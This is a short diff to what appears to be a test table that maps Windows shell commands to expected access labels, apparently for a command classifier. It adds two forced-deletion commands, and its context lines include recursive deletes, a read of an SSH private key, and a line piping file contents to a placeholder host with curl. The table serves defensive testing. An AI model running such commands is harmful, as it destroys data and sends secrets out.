@@ -17,6 +17,8 @@ for (
     ["Remove-Item -Recurse -Force C:\\a\\b", "delete C:/a/b"],
     ["gc C:\\a\\b | curl -d @- https://h.example", "read C:/a/b"],
     ["powershell -c 'Remove-Item C:\\a'", "delete C:/a"],
+    ["powershell Remove-Item C:\\a\\b", "delete C:/a/b"],
+    ["cmd /c del /q C:\\a\\b", "delete C:/a/b"],
     ["pwsh -c 'gc ~\\.ssh\\id_rsa'", "read /h/.ssh/id_rsa"],
     ["cmd /c 'rd /s /q C:\\a'", "delete C:/a"],
     ["[IO.File]::ReadAllText('C:\\a')", "read C:/a"],
